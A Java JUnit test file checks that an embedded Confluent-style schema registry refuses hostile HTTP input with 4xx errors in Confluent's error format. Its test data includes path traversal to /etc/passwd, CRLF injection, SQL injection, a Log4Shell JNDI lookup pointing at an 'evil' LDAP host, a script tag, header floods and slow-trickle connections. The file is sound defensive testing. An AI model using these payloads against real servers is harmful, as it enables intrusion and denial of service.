package io.fleetstream.app.registry;

import com.fasterxml.jackson.databind.JsonNode;
import io.fleetstream.http.HostileClient;
import io.fleetstream.http.HttpEdge;
import io.fleetstream.schemas.registry.InMemoryRegistryJournal;
import io.fleetstream.schemas.registry.SchemaRegistryException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Hostile input on every route of the embedded schema registry, over raw sockets: each a 4xx in Confluent's error
 * shape ({@code {"error_code", "message"}}), Jetty's own refusals included, so Confluent's clients understand them.
 */
class HostileInputTest {

    private static final String SCHEMA = "{\"schema\":\"\\\"string\\\"\"}";
    private static final List<String> BODY_ROUTES = List.of("POST /subjects/s-value/versions", "POST /subjects/s-value",
            "POST /compatibility/subjects/s-value/versions/latest", "PUT /config", "PUT /config/s-value");
    private static final List<String> ROUTES = List.of("GET /", "GET /subjects", "GET /subjects/s-value/versions",
            "GET /subjects/s-value/versions/latest", "GET /schemas/ids/1", "GET /schemas/ids/1/schema", "GET /config",
            "GET /config/s-value", "GET /health/live", "GET /health/ready", "POST /subjects/s-value/versions", "POST /subjects/s-value",
            "POST /compatibility/subjects/s-value/versions/latest", "PUT /config", "PUT /config/s-value");

    private final ExecutorService clients = Executors.newCachedThreadPool();
    private final EmbeddedSchemaRegistry registry = EmbeddedSchemaRegistry.start("127.0.0.1", 0, new InMemoryRegistryJournal());
    private final HostileClient client = new HostileClient(registry.port());

    @AfterEach
    void stop() {
        clients.shutdownNow();
        registry.close();
    }

    @Test
    void aBodyOfAnotherFormatIs415WhileWhatConfluentsClientsSendIsRead() {
        for (String route : BODY_ROUTES) {
            for (String type : List.of("application/x-www-form-urlencoded", "text/plain", "application/xml", "multipart/form-data; boundary=x")) {
                assertConfluentError(send(route, List.of("Content-Type: " + type), body(route)), 415, 415, "Unsupported Media Type");
            }
        }
        List<String> readable = List.of("Content-Type: application/vnd.schemaregistry.v1+json", "Content-Type: application/vnd.schemaregistry+json",
                "Content-Type: application/json", "Content-Type: application/json; charset=utf-8", "Content-Type: application/octet-stream");
        for (String route : BODY_ROUTES) {
            for (String type : readable) {
                assertThat(send(route, List.of(type), body(route)).status()).as(route + " " + type).isNotEqualTo(415).isLessThan(500);
            }
            assertThat(send(route, List.of(), body(route)).status()).as(route + " without Content-Type").isNotEqualTo(415).isLessThan(500);
        }
    }

    @Test
    void hostileBodiesAre4xxInConfluentsShape() {
        List<String> json = List.of("Content-Type: application/json");
        assertConfluentError(send("POST /subjects/s-value/versions", json, new byte[]{'{', '"', (byte) 0xff, '"', ':', '1', '}'}),
                400, 400, "the request body is not JSON");
        assertConfluentError(send("POST /subjects/s-value/versions", json, ("{\"schema\":" + "[".repeat(5000)).getBytes(StandardCharsets.UTF_8)),
                400, 400, "the request body is not JSON");
        assertConfluentError(send("POST /subjects/s-value/versions", json, new byte[(int) HttpEdge.DEFAULT_MAX_REQUEST_BYTES + 1]),
                413, 413, "");
        assertConfluentError(send("PUT /config", json, new byte[0]), 400, 400, "must be a JSON object");
        HostileClient.Answer hugeSchema = send("POST /subjects/s-value/versions", json,
                ("{\"schema\":\"" + "x".repeat(900_000) + "\"}").getBytes(StandardCharsets.UTF_8));
        assertConfluentError(hugeSchema, 422, SchemaRegistryException.INVALID_SCHEMA, "invalid schema");
        assertThat(hugeSchema.body()).hasSizeLessThan(2000);
        assertThat(client.get("/subjects").body()).isEqualTo("[]");
    }

    @Test
    void everyRouteRefusesHostileTargetsInConfluentsShape() {
        for (String route : ROUTES) {
            String method = route.substring(0, route.indexOf(' '));
            String path = route.substring(route.indexOf(' ') + 1);
            byte[] body = method.equals("GET") ? null : body(route);

            assertConfluentError(client.send(method, path + "?verbose=%ff%fe", List.of(), body), 400, 400, "query parameter 'verbose' is not UTF-8");
            assertConfluentError(client.send(method, path + "?x=%0d%0aX-Injected:%201", List.of(), body), 400, 400, "control character");
            assertConfluentError(client.send(method, path + "?x=" + "a".repeat(1_000_000), List.of(), body), 414, 414, "URI Too Long");
            assertConfluentError(client.send(method, path + "/" + "s".repeat(100_000), List.of(), body), 414, 414, "URI Too Long");
            assertConfluentError(client.send(method, path + "%00", List.of(), body), 400, 400, "Bad Request");
            assertConfluentError(client.send(method, path + "/%ff", List.of(), body), 400, 400, "the path is not UTF-8");
            for (String traversal : List.of("/../../../etc/passwd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2f..%2fetc%2fpasswd")) {
                HostileClient.Answer answer = client.send(method, path + traversal, List.of(), body);
                assertThat(answer.status()).as(route + traversal).isBetween(400, 499);
                assertConfluentShape(answer);
            }
        }
        for (String injection : List.of("%27%3B%20DROP%20TABLE%20x", "%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D", "%3Cscript%3E")) {
            assertConfluentError(client.get("/subjects/" + injection + "/versions"), 404, 40401, "not found");
            assertConfluentError(client.get("/schemas/ids/" + injection), 404, 40403, "not found");
            assertConfluentError(client.get("/subjects/s-value/versions/" + injection), 422, 42202, "is not a valid version id");
        }
        HostileClient.Answer longId = client.get("/schemas/ids/" + "9".repeat(5000));
        assertConfluentError(longId, 404, 40403, "(5000 characters)");
        assertThat(longId.body()).hasSizeLessThan(300);
        assertConfluentError(client.send("DELETE", "/subjects", List.of(), null), 405, 405, "HTTP 405 Method Not Allowed");
        HostileClient.Answer unknown = client.get("/" + "nope/".repeat(1000));
        assertConfluentError(unknown, 404, 404, "HTTP 404 Not Found");
        assertThat(unknown.body()).hasSizeLessThan(300);
        assertConfluentError(client.raw(("GET /subjects HTTP/1.1\r\nHost: x\r\n" + "X-Flood: y\r\n".repeat(5000) + "\r\n")
                .getBytes(StandardCharsets.ISO_8859_1)), 431, 431, "Request Header Fields Too Large");
    }

    @Test
    void slowClientsCannotTakeTheRegistrysFewThreadsAndNothingLeaks() throws Exception {
        int connections = client.openConnections();
        String slowBody = "POST /subjects/s-value/versions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{";
        List<CompletableFuture<HostileClient.Trickled>> trickling = new ArrayList<>();
        // more trickling bodies than the registry has threads (16)
        for (int i = 0; i < 24; i++) {
            trickling.add(CompletableFuture.supplyAsync(() -> client.trickle(slowBody, " ", Duration.ofMillis(500), Duration.ofSeconds(30)), clients));
        }
        CompletableFuture<HostileClient.Trickled> stalled = CompletableFuture.supplyAsync(() ->
                client.trickle(slowBody, "", Duration.ofSeconds(30), Duration.ofSeconds(30)), clients);
        CompletableFuture<HostileClient.Trickled> slowHeaders = CompletableFuture.supplyAsync(() ->
                client.trickle("GET /subjects HTTP/1.1\r\nHost: x\r\nX-Slow: ", "a", Duration.ofMillis(500), Duration.ofSeconds(30)), clients);
        await().atMost(Duration.ofSeconds(3)).until(() -> client.openConnections() >= connections + 20);

        // served well before the stall timeout: the trickling bodies were refused for their rate, not waited for
        CompletableFuture<HostileClient.Answer> subjects = CompletableFuture.supplyAsync(() -> client.get("/subjects"), clients);
        assertThat(subjects.get(HttpEdge.STALL_TIMEOUT.toSeconds() - 2, java.util.concurrent.TimeUnit.SECONDS).status()).isEqualTo(200);

        for (CompletableFuture<HostileClient.Trickled> t : trickling) {
            assertConfluentError(t.join().answer(), 408, 408, "Request Timeout");
            assertThat(t.join().after()).isLessThan(Duration.ofSeconds(6));
        }
        HostileClient.Trickled stall = stalled.join();
        assertThat(stall.after()).isBetween(HttpEdge.STALL_TIMEOUT, HttpEdge.STALL_TIMEOUT.plusSeconds(2));
        assertConfluentError(stall.answer(), 408, 408, "the body stopped arriving");
        HostileClient.Trickled headers = slowHeaders.join();
        assertThat(headers.closedByServer()).isTrue();
        assertThat(headers.after()).isBetween(HttpEdge.HEADER_TIMEOUT, HttpEdge.HEADER_TIMEOUT.plusSeconds(4));

        await().atMost(Duration.ofSeconds(3)).until(() -> client.openConnections() == connections);
        assertThat(HostileClient.busyRequestThreads()).isZero();
        assertThat(client.get("/subjects").body()).isEqualTo("[]");
    }

    private HostileClient.Answer send(String route, List<String> headers, byte[] body) {
        return client.send(route.substring(0, route.indexOf(' ')), route.substring(route.indexOf(' ') + 1), headers, body);
    }

    private static byte[] body(String route) {
        return (route.contains("/config") ? "{\"compatibility\":\"BACKWARD\"}" : SCHEMA).getBytes(StandardCharsets.UTF_8);
    }

    private static void assertConfluentError(HostileClient.Answer answer, int status, int errorCode, String message) {
        assertThat(answer.status()).as(answer.body()).isEqualTo(status);
        assertConfluentShape(answer);
        JsonNode body = answer.json();
        assertThat(body.get("error_code").asInt()).isEqualTo(errorCode);
        assertThat(body.get("message").asText()).contains(message);
    }

    private static void assertConfluentShape(HostileClient.Answer answer) {
        JsonNode body = answer.json();
        assertThat(answer.contentType()).as(answer.headers()).contains("json");
        assertThat(body.has("error")).as(answer.body()).isFalse();
        assertThat(SchemaRegistryException.httpStatusOf(body.get("error_code").asInt())).as(answer.body()).isEqualTo(answer.status());
        assertThat(body.get("message").asText()).isNotBlank();
    }
}
